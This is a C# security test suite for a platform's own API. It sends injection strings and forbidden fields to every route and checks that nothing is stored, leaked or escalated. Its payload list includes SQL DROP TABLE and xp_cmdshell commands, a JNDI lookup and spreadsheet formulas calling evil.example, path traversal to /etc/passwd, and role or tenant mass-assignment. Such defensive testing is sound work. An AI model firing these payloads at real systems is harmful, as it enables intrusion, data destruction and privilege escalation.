using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Platform.Primitives;

namespace Platform.Tests.Security;

/// <summary>S10: what people send is data. Operators, foreign syntax and fields that are not theirs to set, in every body and query of the API.</summary>
[Collection(SecurityCollection.Name)]
public sealed class InjectionTests(SecurityWorld world, ITestOutputHelper output)
{
    private const string Mark = "mass-assigned";

    private static readonly string[] Texts =
    [
        "' OR '1'='1'; DROP TABLE posts; --", "\"}} , $where: 'sleep(1000)' //", "*)(uid=*))(|(uid=*", "a.b.$[].c", "x\r\nSet-Cookie: stolen=1\r\n\r\n<html>", "=HYPERLINK(\"http://evil.example\")",
        "@SUM(1+9)*cmd|' /C calc'!A0", "${jndi:ldap://evil.example/a}", "{{7*7}}${7*7}<%= 7*7 %>", "../../../../etc/passwd", "nul\u0000byte", "\u202Egnp.exe\u200B\uFEFF", "'; EXEC xp_cmdshell('id'); --", "<!--#exec cmd=\"id\"-->",
    ];

    private static readonly string[] Operators = ["""{"$gt":""}""", """{"$ne":null}""", """{"$where":"1==1"}""", """{"$regex":".*"}""", """["$or"]""", "true", "12345678901234567890"];

    private static readonly (string Name, string Json)[] NotTheirs =
    [
        ("id", $"\"{Mark}\""), ("_id", $"\"{Mark}\""), ("organizationId", "VICTIM"), ("tenantId", "VICTIM"), ("org", "VICTIM"), ("userId", "VICTIM"), ("ownerId", "VICTIM"), ("createdBy", $"\"{Mark}\""), ("role", "\"owner\""), ("staffRole", "\"superAdmin\""),
        ("isAdmin", "true"), ("admin", "true"), ("permissions", $"[\"{Mark}\"]"), ("state", $"\"{Mark}\""), ("status", $"\"{Mark}\""), ("plan", "\"enterprise\""), ("version", "999"), ("createdAt", "\"1999-01-01T00:00:00Z\""),
        ("emailVerified", "true"), ("suspended", "false"), ("passwordHash", $"\"{Mark}\""), ("securityStamp", $"\"{Mark}\""), ("approvedBy", $"\"{Mark}\""), ("__proto__", """{"isAdmin":true}"""), ("constructor", """{"prototype":{"isAdmin":true}}"""), ("$set", """{"role":"owner"}"""),
    ];

    [Fact]
    public async Task S10_foreign_syntax_in_every_text_of_every_body()
    {
        var checks = new Checks("S10", output);
        foreach (var route in Families.Writes(world.Routes).Where(r => r.Body is not null && !EndsSessions(r)))
        {
            foreach (var (name, schema) in world.Bodies.Properties(route.Body!.Value).Where(p => Bodies.KindOf(p.Schema).Text))
            {
                foreach (var text in Texts) { await SendAsync(checks, route, name, Bodies.KindOf(schema).List ? new JsonArray(text) : text); }
                foreach (var json in Operators) { await SendAsync(checks, route, name, JsonNode.Parse(json)); }
            }
        }
        checks.That(!world.Rows.Read().Any(r => r.Body.Contains("\"$gt\"", StringComparison.Ordinal) || r.Body.Contains("\"$where\"", StringComparison.Ordinal)), () => "an operator was stored as one");
        checks.Report(nameof(S10_foreign_syntax_in_every_text_of_every_body));
    }

    [Fact]
    public async Task S10_foreign_syntax_in_every_query_and_path()
    {
        var checks = new Checks("S10", output);
        foreach (var route in world.Routes.Where(r => r is { IsApi: true, Method: "GET" }))
        {
            var client = await world.ClientAsync(route.IsStaff ? "staff:SuperAdmin" : "Owner");
            foreach (var name in route.Query)
            {
                foreach (var text in Texts) { await GetAsync(checks, client, route, $"{route.Fill()}?{name}={Uri.EscapeDataString(text)}"); }
                await GetAsync(checks, client, route, $"{route.Fill()}?{name}[$gt]=&{name}[$ne]=1");
            }
            if (route.Places.Count > 0) { foreach (var text in Texts.Where(t => !t.Contains('\0', StringComparison.Ordinal))) { await GetAsync(checks, client, route, route.Fill(text)); } }
        }
        checks.Report(nameof(S10_foreign_syntax_in_every_query_and_path));
    }

    [Fact]
    public async Task S10_fields_that_are_not_the_senders_to_set()
    {
        var checks = new Checks("S10", output);
        var before = world.Rows.Read(world.Victim.OrganizationId).Count;
        var named = NamingTheVictim();
        foreach (var route in Families.Writes(world.Routes).Where(r => !EndsSessions(r)))
        {
            var taken = route.Body is { } schema ? world.Bodies.Properties(schema).Select(p => p.Name).ToHashSet(StringComparer.OrdinalIgnoreCase) : [];
            foreach (var (name, json) in NotTheirs.Where(n => !taken.Contains(n.Name)))
            {
                var body = route.Body is { } takes ? world.Bodies.Make(takes) : [];
                body[name] = JsonNode.Parse(json == "VICTIM" ? $"\"{world.Victim.OrganizationId}\"" : json);
                await SendAsync(checks, route, body, $"{name}={json}");
            }
        }
        var rows = world.Rows.Read();
        foreach (var row in rows.Where(r => r.Body.Contains(Mark, StringComparison.Ordinal))) { checks.That(false, () => $"a field that is not the sender's was stored: {row.Collection} {row.Body[..Math.Min(400, row.Body.Length)]}"); }
        checks.That(world.Rows.Read(world.Victim.OrganizationId).Count == before, () => "records were written into the victim's organization");
        checks.That(NamingTheVictim().IsSubsetOf(named), () => "records of the house came to name the victim's organization");
        var me = await (await world.ClientAsync("Editor")).GetStringAsync("/api/v1/auth/me");
        checks.That(me.Contains("\"editor\"", StringComparison.Ordinal), () => $"an editor became something else: {me}");
        checks.Report(nameof(S10_fields_that_are_not_the_senders_to_set));
    }

    [Fact]
    public async Task S10_catches_a_field_that_is_bound()
    {
        // The control: a text that does belong to the sender is stored, and the sweep sees it.
        (await (await world.ClientAsync("Owner")).PostAsJsonAsync("/api/v1/content", new { text = "bound-control", channelIds = new[] { world.OwnIds["channelId"] } })).StatusCode.ShouldBe(HttpStatusCode.Created);
        world.Rows.Read(world.House.OrganizationId).ShouldContain(r => r.Body.Contains("bound-control", StringComparison.Ordinal));
        var posts = world.App.Get<Platform.Storage.IDocumentStore>().For<Platform.Features.Content.Store.Post>(world.House.Caller);
        await posts.DeleteManyAsync(p => p.Id != world.OwnIds["postId"] && p.CreatedBy == world.House.UserId && p.OrganizationId == world.House.OrganizationId, default);
    }

    private HashSet<string> NamingTheVictim() => [.. world.Rows.Read(world.House.OrganizationId).Where(r => r.Body.Contains(world.Victim.OrganizationId, StringComparison.Ordinal)).Select(r => $"{r.Collection}/{r.Id}")];

    private Task SendAsync(Checks checks, ApiRoute route, string name, JsonNode? value)
    {
        var body = world.Bodies.Make(route.Body!.Value, name);
        body[name] = value;
        return SendAsync(checks, route, body, $"{name}={value?.ToJsonString()}");
    }

    private async Task SendAsync(Checks checks, ApiRoute route, JsonObject body, string what)
    {
        var who = route.IsStaff ? "staff:SuperAdmin" : route.Path.Contains("/ai/", StringComparison.Ordinal) ? "Editor" : "Owner";
        var path = route.Fill([.. route.Places.Select(p => world.OwnIds.GetValueOrDefault(p, Ids.New()))]);
        using var answer = await (await world.ClientAsync(who)).SendAsync(new(new HttpMethod(route.Method), path) { Content = JsonContent.Create(body) });
        var text = await answer.Content.ReadAsStringAsync();
        if (answer.StatusCode == HttpStatusCode.Unauthorized) { world.Forget(who); }
        checks.That((int)answer.StatusCode is < 500 or 502, () => $"{route.Key} {what}: {(int)answer.StatusCode} {text[..Math.Min(200, text.Length)]}");
        checks.That(!Leaks(answer, text), () => $"{route.Key} {what}: insides or headers in the answer: {text[..Math.Min(300, text.Length)]}");
    }

    private static async Task GetAsync(Checks checks, HttpClient client, ApiRoute route, string url)
    {
        using var answer = await client.GetAsync(url);
        var text = await answer.Content.ReadAsStringAsync();
        checks.That((int)answer.StatusCode < 500 && !Leaks(answer, text), () => $"{route.Key} {url}: {(int)answer.StatusCode} {text[..Math.Min(200, text.Length)]}");
    }

    private static bool Leaks(HttpResponseMessage answer, string text) =>
        answer.Headers.Contains("Set-Cookie") || text.Contains("   at Platform.", StringComparison.Ordinal) || text.Contains("SqliteException", StringComparison.Ordinal) || text.Contains("root:x:0", StringComparison.Ordinal);

    // They would sign the world's people out or change their passwords under the other tests.
    private static bool EndsSessions(ApiRoute route) => route.Path.EndsWith("/logout", StringComparison.Ordinal) || route.Path.Contains("/sessions", StringComparison.Ordinal) || route.Path.EndsWith("/auth/password", StringComparison.Ordinal);
}
